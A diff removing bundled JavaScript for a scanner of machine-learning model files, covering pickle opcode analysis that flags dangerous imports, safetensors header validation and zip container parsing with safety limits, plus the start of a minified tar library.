-          if (marks.length > 0 && stack.length === marks[marks.length - 1]) marks.pop();
-          else pop();
-          break;
-        case 49:
-          popMark();
-          break;
-        case 50:
-          push(top());
-          break;
-        case 70:
-        case 73:
-        case 76:
-          await line(NAMES[op]);
-          push(OTHER);
-          break;
-        case 74:
-          fixed(4);
-          push(OTHER);
-          break;
-        // BININT
-        case 75:
-          fixed(1);
-          push(OTHER);
-          break;
-        // BININT1
-        case 77:
-          fixed(2);
-          push(OTHER);
-          break;
-        // BININT2
-        case 71:
-          fixed(8);
-          push(OTHER);
-          break;
-        // BINFLOAT
-        case 78:
-        case 136:
-        case 137:
-          push(OTHER);
-          break;
-        // NONE NEWTRUE NEWFALSE
-        case 80:
-          await line("PERSID");
-          push(OTHER);
-          break;
-        case 81:
-          pop();
-          push(OTHER);
-          break;
-        case 82: {
-          pop();
-          const f2 = pop();
-          used(f2, "REDUCE");
-          push(f2.k === "global" || f2.k === "obj" ? { k: "obj", g: f2.g } : OTHER);
-          break;
-        }
-        case 83: {
-          const l = await line("STRING");
-          const s3 = decodeQuoted(l);
-          if (s3 === void 0) throw new Malformed("STRING argument is not a quoted string");
-          push(str3(Buffer.from(s3, "latin1"), "latin1"));
-          break;
-        }
-        case 84: {
-          const n = fixed(4).readInt32LE(0);
-          if (n < 0) throw new Malformed("negative BINSTRING length");
-          push(await lenStr(n, "latin1"));
-          break;
-        }
-        case 85:
-          push(await lenStr(fixed(1)[0], "latin1"));
-          break;
-        // SHORT_BINSTRING
-        case 86: {
-          const s3 = decodeRawUnicode(await line("UNICODE"));
-          if (s3 === void 0) throw new Malformed("bad UNICODE escape");
-          push(s3.length > MAX_KEPT_STRING ? LONGSTR : { k: "str", s: s3 });
-          break;
-        }
-        case 88:
-          push(await lenStr(fixed(4).readUInt32LE(0), "utf8"));
-          break;
-        // BINUNICODE
-        case 140:
-          push(await lenStr(fixed(1)[0], "utf8"));
-          break;
-        // SHORT_BINUNICODE
-        case 141:
-          push(await lenStr(size8(fixed(8)), "utf8"));
-          break;
-        // BINUNICODE8
-        case 66:
-          push(await skipBytes(fixed(4).readUInt32LE(0)));
-          break;
-        // BINBYTES
-        case 67:
-          push(await skipBytes(fixed(1)[0]));
-          break;
-        // SHORT_BINBYTES
-        case 142:
-        case 150:
-          push(await skipBytes(size8(fixed(8))));
-          break;
-        // BINBYTES8 BYTEARRAY8
-        case 138: {
-          const n = fixed(1)[0];
-          if (src.buffered < n) await src.ensure(n);
-          const v2 = fixed(n);
-          if (pickles === 0 && n === TORCH_MAGIC.length && v2.equals(TORCH_MAGIC)) legacyTorch = true;
-          push(OTHER);
-          break;
-        }
-        case 139: {
-          const n = fixed(4).readInt32LE(0);
-          if (n < 0) throw new Malformed("negative LONG4 length");
-          await src.skip(n);
-          push(OTHER);
-          break;
-        }
-        case 97:
-          pop();
-          top();
-          break;
-        // APPEND
-        case 98: {
-          pop();
-          used(top(), "BUILD");
-          break;
-        }
-        case 99: {
-          push({ k: "global", g: await importGlobal("GLOBAL", at2) });
-          break;
-        }
-        case 105: {
-          const g2 = await importGlobal("INST", at2);
-          popMark();
-          record(g2, void 0, "INST");
-          push({ k: "obj", g: g2 });
-          break;
-        }
-        case 111: {
-          const items = popMark();
-          if (items.length === 0) throw new Malformed("OBJ without a class");
-          const cls = items[0];
-          used(cls, "OBJ");
-          push(cls.k === "global" || cls.k === "obj" ? { k: "obj", g: cls.g } : OTHER);
-          break;
-        }
-        case 129: {
-          pop();
-          const cls = pop();
-          used(cls, "NEWOBJ");
-          push(cls.k === "global" || cls.k === "obj" ? { k: "obj", g: cls.g } : OTHER);
-          break;
-        }
-        case 146: {
-          pop();
-          pop();
-          const cls = pop();
-          used(cls, "NEWOBJ_EX");
-          push(cls.k === "global" || cls.k === "obj" ? { k: "obj", g: cls.g } : OTHER);
-          break;
-        }
-        case 147: {
-          const name2 = pop();
-          const module = pop();
-          if (module.k !== "str" || name2.k !== "str") {
-            add("critical", "PICKLE_NONSTRING_GLOBAL", `STACK_GLOBAL with operands that are not plain strings (module: ${describe(module)}, name: ${describe(name2)}); a scanner cannot tell what it imports`, at2);
-            push(OTHER);
-            break;
-          }
-          const g2 = globalOf(module.s, name2.s);
-          record(g2, "STACK_GLOBAL");
-          push({ k: "global", g: g2 });
-          break;
-        }
-        case 100:
-        case 108:
-        case 116:
-        case 145:
-          popMark();
-          push(OTHER);
-          break;
-        case 101:
-        case 117:
-        case 144:
-          popMark();
-          top();
-          break;
-        case 125:
-        case 93:
-        case 41:
-        case 143:
-          push(OTHER);
-          break;
-        // EMPTY_DICT EMPTY_LIST EMPTY_TUPLE EMPTY_SET
-        case 115:
-          pop();
-          pop();
-          top();
-          break;
-        // SETITEM
-        case 133:
-          pop();
-          push(OTHER);
-          break;
-        // TUPLE1
-        case 134:
-          pop();
-          pop();
-          push(OTHER);
-          break;
-        // TUPLE2
-        case 135:
-          pop();
-          pop();
-          pop();
-          push(OTHER);
-          break;
-        // TUPLE3
-        case 103: {
-          const l = (await line("GET")).toString("latin1");
-          if (!/^-?\d{1,18}$/.test(l)) throw new Malformed("GET argument is not a number");
-          memoGet(Number(l));
-          break;
-        }
-        case 104:
-          memoGet(fixed(1)[0]);
-          break;
-        // BINGET
-        case 106:
-          memoGet(fixed(4).readUInt32LE(0));
-          break;
-        // LONG_BINGET
-        case 112: {
-          const l = (await line("PUT")).toString("latin1");
-          if (!/^\d{1,18}$/.test(l)) throw new Malformed("PUT argument is not a number");
-          memoPut(Number(l), top());
-          break;
-        }
-        case 113:
-          memoPut(fixed(1)[0], top());
-          break;
-        // BINPUT
-        case 114:
-          memoPut(fixed(4).readUInt32LE(0), top());
-          break;
-        // LONG_BINPUT
-        case 148:
-          memoPut(memo.size, top());
-          break;
-        // MEMOIZE
-        case 128: {
-          const p2 = fixed(1)[0];
-          if (p2 > 5) throw new Malformed(`unsupported pickle protocol ${p2}`);
-          break;
-        }
-        case 149:
-          fixed(8);
-          break;
-        // FRAME: the framed opcodes follow inline
-        case 130:
-        case 131:
-        case 132: {
-          const code = op === 130 ? fixed(1)[0] : op === 131 ? fixed(2).readUInt16LE(0) : fixed(4).readInt32LE(0);
-          add("high", "PICKLE_EXTENSION", `${NAMES[op]} imports extension-registry code ${code}, which names a global this scanner cannot see`, at2);
-          push(OTHER);
-          break;
-        }
-        case 151:
-          push(OTHER);
-          break;
-        // NEXT_BUFFER (out-of-band data)
-        case 152:
-          pop();
-          push(OTHER);
-          break;
-        // READONLY_BUFFER
-        default:
-          throw new Malformed(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`);
-      }
-    }
-  };
-  try {
-    for (; ; ) {
-      await walkOne();
-      pickles++;
-      if (opts.multiple === false || legacyTorch && pickles >= LEGACY_TORCH_PICKLES) break;
-      if (!await src.ensure(2)) break;
-      const next = src.peek(2);
-      if (next[0] !== 128 || next[1] < 2 || next[1] > 5) break;
-      if (pickles >= limits.maxPicklesPerStream) {
-        add("high", "SCAN_LIMIT", `more than ${limits.maxPicklesPerStream} pickles in a row; the rest was not scanned`, src.pos);
-        break;
-      }
-    }
-  } catch (e) {
-    if (e instanceof Malformed) add("high", "PICKLE_MALFORMED", `not a valid pickle: ${e.message} (near offset ${src.pos})`, src.pos);
-    else if (e instanceof Truncated) add("high", "PICKLE_MALFORMED", `pickle is truncated: ${e.message}`, e.at);
-    else if (e instanceof LimitHit) add("high", "SCAN_LIMIT", `pickle too complex to scan: ${e.message}`, src.pos);
-    else throw e;
-  }
-  const list2 = [...imports.values()];
-  for (const imp of list2) {
-    if (imp.verdict === "allowed") continue;
-    const full = `${imp.module}.${imp.name}`;
-    const how = `via ${imp.via.join("/") || "memo"}${imp.usedBy.length ? `, used by ${imp.usedBy.join("/")}` : ""}`;
-    if (imp.verdict === "dangerous") {
-      const why2 = classifyGlobal(imp.module, imp.name).why ?? "dangerous";
-      add("critical", "PICKLE_DANGEROUS_GLOBAL", `imports ${full} (${why2}) ${how}; loading this file can run code`, void 0, full);
-    } else {
-      add("medium", "PICKLE_UNKNOWN_GLOBAL", `imports ${full}, which is not on the allow-list for weights (${how})`, void 0, full);
-    }
-  }
-  return { imports: list2, findings, pickles, opcodes };
-}
-var OTHER, BYTES, LONGSTR, NAMES, MAX_KEPT_STRING, MAX_LINE, TORCH_MAGIC, LEGACY_TORCH_PICKLES, Malformed, LimitHit;
-var init_pickle = __esm({
-  "src/scan/pickle.ts"() {
-    "use strict";
-    init_globals();
-    init_source2();
-    OTHER = { k: "other", what: "value" };
-    BYTES = { k: "other", what: "bytes" };
-    LONGSTR = { k: "other", what: "string too long to follow" };
-    NAMES = {
-      40: "MARK",
-      46: "STOP",
-      48: "POP",
-      49: "POP_MARK",
-      50: "DUP",
-      70: "FLOAT",
-      73: "INT",
-      74: "BININT",
-      75: "BININT1",
-      76: "LONG",
-      77: "BININT2",
-      78: "NONE",
-      80: "PERSID",
-      81: "BINPERSID",
-      82: "REDUCE",
-      83: "STRING",
-      84: "BINSTRING",
-      85: "SHORT_BINSTRING",
-      86: "UNICODE",
-      88: "BINUNICODE",
-      97: "APPEND",
-      98: "BUILD",
-      99: "GLOBAL",
-      100: "DICT",
-      125: "EMPTY_DICT",
-      101: "APPENDS",
-      103: "GET",
-      104: "BINGET",
-      105: "INST",
-      106: "LONG_BINGET",
-      108: "LIST",
-      93: "EMPTY_LIST",
-      111: "OBJ",
-      112: "PUT",
-      113: "BINPUT",
-      114: "LONG_BINPUT",
-      115: "SETITEM",
-      116: "TUPLE",
-      41: "EMPTY_TUPLE",
-      117: "SETITEMS",
-      71: "BINFLOAT",
-      128: "PROTO",
-      129: "NEWOBJ",
-      130: "EXT1",
-      131: "EXT2",
-      132: "EXT4",
-      133: "TUPLE1",
-      134: "TUPLE2",
-      135: "TUPLE3",
-      136: "NEWTRUE",
-      137: "NEWFALSE",
-      138: "LONG1",
-      139: "LONG4",
-      66: "BINBYTES",
-      67: "SHORT_BINBYTES",
-      140: "SHORT_BINUNICODE",
-      141: "BINUNICODE8",
-      142: "BINBYTES8",
-      143: "EMPTY_SET",
-      144: "ADDITEMS",
-      145: "FROZENSET",
-      146: "NEWOBJ_EX",
-      147: "STACK_GLOBAL",
-      148: "MEMOIZE",
-      149: "FRAME",
-      150: "BYTEARRAY8",
-      151: "NEXT_BUFFER",
-      152: "READONLY_BUFFER"
-    };
-    MAX_KEPT_STRING = 1024;
-    MAX_LINE = 1 << 20;
-    TORCH_MAGIC = Buffer.from([108, 252, 156, 70, 249, 32, 106, 168, 80, 25]);
-    LEGACY_TORCH_PICKLES = 5;
-    Malformed = class extends Error {
-    };
-    LimitHit = class extends Error {
-    };
-  }
-});
-
-// src/scan/safetensors.ts
-async function checkSafetensors(src, size, file, limits, member) {
-  const findings = [];
-  const add = (code, message) => findings.push({ code, severity: "high", file, ...member !== void 0 ? { member } : {}, message });
-  if (size < 8) {
-    add("SAFETENSORS_TRUNCATED", `file is ${size} bytes, too short for the 8-byte header length`);
-    return findings;
-  }
-  const n = (await src.read(8)).readBigUInt64LE(0);
-  if (n > BigInt(limits.maxSafetensorsHeader)) {
-    add("SAFETENSORS_HEADER_LENGTH", `header length ${n} is larger than the ${limits.maxSafetensorsHeader}-byte limit`);
-    return findings;
-  }
-  const hlen = Number(n);
-  if (8 + hlen > size) {
-    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} points past the end of the ${size}-byte file`);
-    return findings;
-  }
-  if (hlen < 2) {
-    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} is too small for a JSON object`);
-    return findings;
-  }
-  const raw = await src.read(hlen);
-  let text;
-  try {
-    text = utf82.decode(raw);
-  } catch {
-    add("SAFETENSORS_HEADER_JSON", "header is not valid UTF-8");
-    return findings;
-  }
-  if (!text.startsWith("{")) {
-    add("SAFETENSORS_HEADER_JSON", 'header does not start with "{"');
-    return findings;
-  }
-  let header;
-  try {
-    header = parseStrictJson(text, { what: "safetensors header", code: "SAFETENSORS_HEADER_JSON", maxDepth: 8 });
-  } catch (e) {
-    if (e instanceof ModelsignError) {
-      add(/duplicate key/.test(e.message) ? "SAFETENSORS_DUPLICATE_KEY" : "SAFETENSORS_HEADER_JSON", e.message);
-      return findings;
-    }
-    throw e;
-  }
-  if (!isObject(header)) {
-    add("SAFETENSORS_HEADER_JSON", "header is not a JSON object");
-    return findings;
-  }
-  const dataLen = size - 8 - hlen;
-  const spans = [];
-  for (const [name2, info2] of Object.entries(header)) {
-    const shown = JSON.stringify(name2.slice(0, 120));
-    if (name2 === "__metadata__") {
-      if (!isObject(info2)) add("SAFETENSORS_METADATA", "__metadata__ is not an object");
-      else for (const [k2, v2] of Object.entries(info2)) if (typeof v2 !== "string") add("SAFETENSORS_METADATA", `__metadata__ value ${JSON.stringify(k2.slice(0, 120))} is not a string`);
-      continue;
-    }
-    if (!isObject(info2)) {
-      add("SAFETENSORS_TENSOR", `tensor ${shown} is not an object`);
-      continue;
-    }
-    const extra = Object.keys(info2).filter((k2) => k2 !== "dtype" && k2 !== "shape" && k2 !== "data_offsets");
-    if (extra.length) add("SAFETENSORS_TENSOR", `tensor ${shown} has unexpected fields: ${extra.slice(0, 5).join(", ")}`);
-    const { dtype, shape, data_offsets: offs } = info2;
-    if (typeof dtype !== "string" || SAFETENSORS_DTYPE_BITS[dtype] === void 0) {
-      add("SAFETENSORS_DTYPE", `tensor ${shown} has unknown dtype ${JSON.stringify(dtype)}`);
-      continue;
-    }
-    if (!Array.isArray(shape) || !shape.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0)) {
-      add("SAFETENSORS_TENSOR", `tensor ${shown} has a shape that is not a list of non-negative integers`);
-      continue;
-    }
-    if (!Array.isArray(offs) || offs.length !== 2 || !offs.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0) || offs[1] < offs[0]) {
-      add("SAFETENSORS_OFFSETS", `tensor ${shown} has data_offsets that are not [begin, end] with begin <= end`);
-      continue;
-    }
-    const [begin, end] = offs;
-    const bits = shape.reduce((a, d) => a * BigInt(d), 1n) * BigInt(SAFETENSORS_DTYPE_BITS[dtype]);
-    if (bits % 8n !== 0n || bits / 8n !== BigInt(end - begin)) {
-      add("SAFETENSORS_SIZE", `tensor ${shown} is ${end - begin} bytes but shape [${shape.join(", ")}] x ${dtype} needs ${bits % 8n === 0n ? `${bits / 8n} bytes` : `${bits} bits (not whole bytes)`}`);
-    }
-    spans.push({ name: name2, begin, end });
-  }
-  spans.sort((a, b2) => a.begin - b2.begin || a.end - b2.end);
-  let pos = 0;
-  let prev;
-  for (const s3 of spans) {
-    const shown = JSON.stringify(s3.name.slice(0, 120));
-    if (s3.begin < pos) add("SAFETENSORS_OFFSETS", `tensor ${shown} [${s3.begin}, ${s3.end}) overlaps tensor ${JSON.stringify((prev ?? "").slice(0, 120))} (which ends at ${pos})`);
-    else if (s3.begin > pos) add("SAFETENSORS_OFFSETS", `${s3.begin - pos} bytes at data offset ${pos} belong to no tensor (gap before ${shown})`);
-    if (s3.end > pos) {
-      pos = s3.end;
-      prev = s3.name;
-    }
-  }
-  if (pos > dataLen) add("SAFETENSORS_TRUNCATED", `tensors need ${pos} data bytes but the file has ${dataLen}`);
-  else if (pos < dataLen) add("SAFETENSORS_TRAILING_BYTES", `${dataLen - pos} bytes after the last tensor (data ends at ${8 + hlen + pos}, file is ${size} bytes)`);
-  return findings;
-}
-var SAFETENSORS_DTYPE_BITS, utf82;
-var init_safetensors = __esm({
-  "src/scan/safetensors.ts"() {
-    "use strict";
-    init_errors();
-    init_strict_json();
-    SAFETENSORS_DTYPE_BITS = {
-      BOOL: 8,
-      U8: 8,
-      I8: 8,
-      F8_E5M2: 8,
-      F8_E4M3: 8,
-      F8_E8M0: 8,
-      I16: 16,
-      U16: 16,
-      F16: 16,
-      BF16: 16,
-      I32: 32,
-      U32: 32,
-      F32: 32,
-      I64: 64,
-      U64: 64,
-      F64: 64,
-      C64: 64,
-      F4: 4,
-      F6_E2M3: 6,
-      F6_E3M2: 6
-    };
-    utf82 = new TextDecoder("utf-8", { fatal: true });
-  }
-});
-
-// src/scan/zip.ts
-import { open as open2 } from "node:fs/promises";
-import { createInflateRaw } from "node:zlib";
-import { Readable } from "node:stream";
-async function readAt(fh, pos, len) {
-  const b2 = Buffer.alloc(len);
-  const { bytesRead } = await fh.read(b2, 0, len, pos);
-  if (bytesRead !== len) throw new ZipError(`unexpected end of file at offset ${pos + bytesRead}`);
-  return b2;
-}
-function big(b2, at2) {
-  const v2 = b2.readBigUInt64LE(at2);
-  if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new ZipError("zip64 field is impossibly large");
-  return Number(v2);
-}
-async function readZipDirectory(file, size, limits) {
-  const fh = await open2(file, "r");
-  try {
-    const problems = [];
-    const tailLen = Math.min(size, 22 + 65535);
-    const tail = await readAt(fh, size - tailLen, tailLen);
-    let at2 = -1;
-    for (let i = tail.length - 22; i >= 0; i--) {
-      if (tail.readUInt32LE(i) === EOCD && i + 22 + tail.readUInt16LE(i + 20) === tail.length) {
-        at2 = i;
-        break;
-      }
-    }
-    if (at2 < 0) throw new ZipError("no end-of-central-directory record");
-    const eocdPos = size - tailLen + at2;
-    let count = tail.readUInt16LE(at2 + 10);
-    let cdSize = tail.readUInt32LE(at2 + 12);
-    let cdOffset = tail.readUInt32LE(at2 + 16);
-    if (count === 65535 || cdSize === 4294967295 || cdOffset === 4294967295) {
-      if (eocdPos < 20) throw new ZipError("zip64 locator missing");
-      const loc = await readAt(fh, eocdPos - 20, 20);
-      if (loc.readUInt32LE(0) !== ZIP64_LOCATOR) throw new ZipError("zip64 locator missing");
-      const recPos = big(loc, 8);
-      if (recPos + 56 > eocdPos) throw new ZipError("zip64 end record out of range");
-      const rec = await readAt(fh, recPos, 56);
-      if (rec.readUInt32LE(0) !== ZIP64_EOCD) throw new ZipError("bad zip64 end record");
-      count = big(rec, 32);
-      cdSize = big(rec, 40);
-      cdOffset = big(rec, 48);
-    }
-    if (count > limits.maxZipEntries) throw new ZipError(`${count} entries, more than the limit of ${limits.maxZipEntries}`);
-    if (cdSize > limits.maxZipDirectory) throw new ZipError(`central directory of ${cdSize} bytes exceeds the limit`);
-    if (cdOffset + cdSize > eocdPos) throw new ZipError("central directory lies outside the file");
-    const cd = await readAt(fh, cdOffset, cdSize);
-    const entries = [];
-    const seen = /* @__PURE__ */ new Set();
-    let p2 = 0;
-    for (let i = 0; i < count; i++) {
-      if (p2 + 46 > cd.length || cd.readUInt32LE(p2) !== CDH) throw new ZipError(`central directory entry ${i} is malformed`);
-      const flags = cd.readUInt16LE(p2 + 8);
-      const method = cd.readUInt16LE(p2 + 10);
-      let compressedSize = cd.readUInt32LE(p2 + 20);
-      let usize = cd.readUInt32LE(p2 + 24);
-      const nameLen = cd.readUInt16LE(p2 + 28);
-      const extraLen = cd.readUInt16LE(p2 + 30);
-      const commentLen = cd.readUInt16LE(p2 + 32);
-      let localOffset = cd.readUInt32LE(p2 + 42);
-      const end = p2 + 46 + nameLen + extraLen + commentLen;
-      if (end > cd.length) throw new ZipError(`central directory entry ${i} runs past the directory`);
-      const name2 = cd.subarray(p2 + 46, p2 + 46 + nameLen).toString(flags & 2048 ? "utf8" : "latin1");
-      let x = p2 + 46 + nameLen;
-      const xEnd = x + extraLen;
-      while (x + 4 <= xEnd) {
-        const id2 = cd.readUInt16LE(x);
-        const len = cd.readUInt16LE(x + 2);
-        if (x + 4 + len > xEnd) break;
-        if (id2 === 1) {
-          let q2 = x + 4;
-          const take = () => {
-            if (q2 + 8 > x + 4 + len) throw new ZipError(`zip64 extra field of ${JSON.stringify(name2)} is short`);
-            const v2 = big(cd, q2);
-            q2 += 8;
-            return v2;
-          };
-          if (usize === 4294967295) usize = take();
-          if (compressedSize === 4294967295) compressedSize = take();
-          if (localOffset === 4294967295) localOffset = take();
-        }
-        x += 4 + len;
-      }
-      p2 = end;
-      if (seen.has(name2)) problems.push(`duplicate entry name ${JSON.stringify(name2)} (readers disagree on which one counts)`);
-      seen.add(name2);
-      if (localOffset + 30 > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} starts outside the data area`);
-      const lh = await readAt(fh, localOffset, 30);
-      if (lh.readUInt32LE(0) !== LFH) throw new ZipError(`entry ${JSON.stringify(name2)} has no local header`);
-      const lNameLen = lh.readUInt16LE(26);
-      const lExtraLen = lh.readUInt16LE(28);
-      const lName = (await readAt(fh, localOffset + 30, lNameLen)).toString(flags & 2048 ? "utf8" : "latin1");
-      if (lName !== name2) problems.push(`entry ${JSON.stringify(name2)} is named ${JSON.stringify(lName)} in its local header`);
-      const dataOffset = localOffset + 30 + lNameLen + lExtraLen;
-      if (dataOffset + compressedSize > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} runs past the data area`);
-      entries.push({ name: name2, method, compressedSize, size: usize, localOffset, dataOffset, encrypted: (flags & 1) === 1 });
-    }
-    if (p2 !== cd.length) problems.push(`${cd.length - p2} unexplained bytes in the central directory`);
-    return { entries, problems };
-  } finally {
-    await fh.close();
-  }
-}
-function openZipMember(file, e, limits) {
-  if (e.size > limits.maxMemberBytes) throw new ZipError(`member declares ${e.size} bytes, more than the limit of ${limits.maxMemberBytes}`);
-  if (e.method === 0 && e.compressedSize !== e.size) throw new ZipError("stored member has different compressed and uncompressed sizes");
-  if (e.method === 0) return { src: ByteSource.fromFile(file, e.dataOffset, e.dataOffset + e.compressedSize), problems: [] };
-  if (e.method !== 8) throw new ZipError(`member uses compression method ${e.method}, which is not supported`);
-  if (e.size > Math.max(1 << 20, e.compressedSize * limits.maxRatio)) throw new ZipError(`member expands ${e.compressedSize} bytes to ${e.size}: compression ratio over ${limits.maxRatio}`);
-  const raw = ByteSource.fromFile(file, e.dataOffset, e.dataOffset + e.compressedSize);
-  const declared = e.size;
-  const problems = [];
-  async function* inflate() {
-    const z2 = createInflateRaw();
-    const input = Readable.from(
-      (async function* () {
-        for (; ; ) {
-          if (!await raw.ensure(1)) return;
-          yield Buffer.from(raw.take(raw.buffered));
-        }
-      })()
-    );
-    input.pipe(z2);
-    let out2 = 0;
-    try {
-      for await (const chunk of z2) {
-        if (out2 + chunk.length > declared) {
-          problems.push(`member inflates to more than its declared ${declared} bytes`);
-          if (declared > out2) yield chunk.subarray(0, declared - out2);
-          return;
-        }
-        out2 += chunk.length;
-        yield chunk;
-      }
-    } catch (err) {
-      problems.push(`member's compressed data is corrupt: ${err.message}`);
-      return;
-    } finally {
-      input.destroy();
-      z2.destroy();
-      await raw.close();
-    }
-    if (out2 !== declared) problems.push(`member inflates to ${out2} bytes, not the declared ${declared}`);
-  }
-  return { src: ByteSource.fromIterable(inflate(), declared), problems };
-}
-var ZipError, EOCD, ZIP64_LOCATOR, ZIP64_EOCD, CDH, LFH;
-var init_zip = __esm({
-  "src/scan/zip.ts"() {
-    "use strict";
-    init_source2();
-    ZipError = class extends Error {
-    };
-    EOCD = 101010256;
-    ZIP64_LOCATOR = 117853008;
-    ZIP64_EOCD = 101075792;
-    CDH = 33639248;
-    LFH = 67324752;
-  }
-});
-
-// src/scan/scan-file.ts
-import { stat } from "node:fs/promises";
-async function scanStream(src, kind, size, file, limits, member) {
-  const where = member !== void 0 ? { member } : {};
-  switch (kind) {
-    case "pickle": {
-      const r = await walkPickles(src, { file, limits, ...where });
-      return { format: "pickle", pickle: true, imports: r.imports, findings: r.findings };
-    }
-    case "npy": {
-      const h = await readNpyHeader(src);
-      if (!h.ok) return { format: "npy", pickle: false, imports: [], findings: [{ code: "NPY_MALFORMED", severity: "high", file, ...where, message: `not a valid .npy file: ${h.problem}` }] };
-      if (!h.objectDtype) return { format: "npy", pickle: false, imports: [], findings: [] };
-      const r = await walkPickles(src, { file, limits, multiple: false, ...where });
-      return { format: "npy", pickle: true, imports: r.imports, findings: r.findings };
-    }
-    case "safetensors":
-      return { format: "safetensors", pickle: false, imports: [], findings: await checkSafetensors(src, size, file, limits, member) };
-    case "gguf":
-      return { format: "gguf", pickle: false, imports: [], findings: await checkGguf(src, size, file, limits, member) };
-    default:
-      return { format: "unknown", pickle: false, imports: [], findings: [] };
-  }
-}
-async function scanZip(abs, size, file, limits) {
-  const findings = [];
-  const imports = [];
-  let pickle = false;
-  let dir;
-  try {
-    dir = await readZipDirectory(abs, size, limits);
-  } catch (e) {
-    if (!(e instanceof ZipError)) throw e;
-    findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: `zip container cannot be read safely: ${e.message}` });
-    return { format: "zip", pickle: false, imports, findings };
-  }
-  for (const p2 of dir.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: p2 });
-  const names = dir.entries.map((e) => e.name);
-  const format = names.some((n) => n === "data.pkl" || n.endsWith("/data.pkl")) ? "pytorch" : names.length > 0 && names.every((n) => n.endsWith(".npy")) ? "npz" : "zip";
-  for (const e of dir.entries) {
-    if (e.name.endsWith("/") || !memberWorthScanning(e.name)) continue;
-    const member = e.name;
-    if (e.encrypted) {
-      findings.push({ code: "ZIP_ENCRYPTED", severity: "high", file, member, message: "member is encrypted and cannot be scanned" });
-      continue;
-    }
-    let src;
-    try {
-      const opened = openZipMember(abs, e, limits);
-      src = opened.src;
-      await src.ensure(SNIFF_BYTES);
-      const kind = sniff(src.peek(SNIFF_BYTES), member);
-      if (kind === "zip") {
-        for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
-        findings.push({ code: "ZIP_NESTED", severity: "medium", file, member, message: "member is itself a zip archive; nested archives are not scanned" });
-        continue;
-      }
-      const r = await scanStream(src, kind, e.size, file, limits, member);
-      pickle ||= r.pickle;
-      imports.push(...r.imports);
-      findings.push(...r.findings);
-      await src.drain();
-      for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
-    } catch (err) {
-      if (!(err instanceof ZipError)) throw err;
-      findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: err.message });
-    } finally {
-      await src?.close();
-    }
-  }
-  return { format, pickle, imports, findings };
-}
-function report(file, size, r) {
-  const findings = [...r.findings];
-  if (r.format === "unknown" && OPAQUE_ARCHIVE.test(file)) {
-    findings.push({ code: "SCAN_SKIPPED", severity: "medium", file, message: "compressed or archive format that modelsign cannot look inside; not scanned (use .tar, .tar.gz or zip)" });
-  }
-  return { file, size, format: r.format, pickle: r.pickle, imports: r.imports, findings };
-}
-async function scanFile(abs, file, limits) {
-  const size = (await stat(abs)).size;
-  const src = ByteSource.fromFile(abs);
-  try {
-    await src.ensure(SNIFF_BYTES);
-    const kind = sniff(src.peek(SNIFF_BYTES), file);
-    if (kind === "zip") {
-      await src.close();
-      return report(file, size, await scanZip(abs, size, file, limits));
-    }
-    return report(file, size, await scanStream(src, kind, size, file, limits));
-  } finally {
-    await src.close();
-  }
-}
-var OPAQUE_ARCHIVE;
-var init_scan_file = __esm({
-  "src/scan/scan-file.ts"() {
-    "use strict";
-    init_detect();
-    init_gguf();
-    init_npy();
-    init_pickle();
-    init_safetensors();
-    init_source2();
-    init_zip();
-    OPAQUE_ARCHIVE = /\.(?:tar\.[a-z0-9]+|tzst|tbz2?|txz|zst|bz2|xz|lz4|7z|rar|gz|br)$/i;
-  }
-});
-
-// node_modules/tar/dist/esm/index.min.js
-var index_min_exports = {};
-__export(index_min_exports, {
-  Header: () => F,
-  Pack: () => wt,
-  PackJob: () => pi,
-  PackSync: () => kt,
-  Parser: () => rt,
-  Pax: () => ft,
-  ReadEntry: () => $e,
-  Unpack: () => Xt,
-  UnpackSync: () => xe,
-  WriteEntry: () => de,
-  WriteEntrySync: () => ni,
-  WriteEntryTar: () => oi,
-  c: () => Qn,
-  create: () => Qn,
-  extract: () => So,
-  filesFilter: () => Qi,
-  list: () => Ct,
-  r: () => vt,
-  replace: () => vt,
-  t: () => Ct,
-  types: () => Hi,
-  u: () => Oo,
-  update: () => Oo,
-  x: () => So
-});
-import Qr from "events";
-import I from "fs";
-import { EventEmitter as Di } from "node:events";
-import Cs from "node:stream";
-import { StringDecoder as Hr } from "node:string_decoder";
-import cr from "node:path";
-import Kt from "node:fs";
-import { dirname as Fn, parse as kn } from "path";
-import { EventEmitter as Dn } from "events";
-import zi from "assert";
-import { Buffer as Ot } from "buffer";
-import * as Ps from "zlib";
-import en from "zlib";
-import { posix as Zt } from "node:path";
-import { basename as _n } from "node:path";
-import mi from "fs";
-import X from "fs";
-import js from "path";
-import { win32 as Pn } from "node:path";
-import ar from "path";
-import Br from "node:fs";
-import co from "node:assert";
-import { randomBytes as Mr } from "node:crypto";
-import u from "node:fs";
-import R from "node:path";
-import pr from "fs";
-import wi from "node:fs";
-import we from "node:path";
-import k from "node:fs";
-import ro from "node:fs/promises";
-import Si from "node:path";
-import { join as xr } from "node:path";
-import v from "node:fs";
-import Pr from "node:path";
-function Zn(s3, t, e) {
-  let i = t, r = t ? t.next : s3.head, n = new ue(e, i, r, s3);
-  return n.next === void 0 && (s3.tail = n), n.prev === void 0 && (s3.head = n), s3.length++, n;
-}
-function Yn(s3, t) {
-  s3.tail = new ue(t, s3.tail, void 0, s3), s3.head || (s3.head = s3.tail), s3.length++;
-}
-function Kn(s3, t) {
-  s3.head = new ue(t, void 0, s3.head, s3), s3.tail || (s3.tail = s3.head), s3.length++;
-}
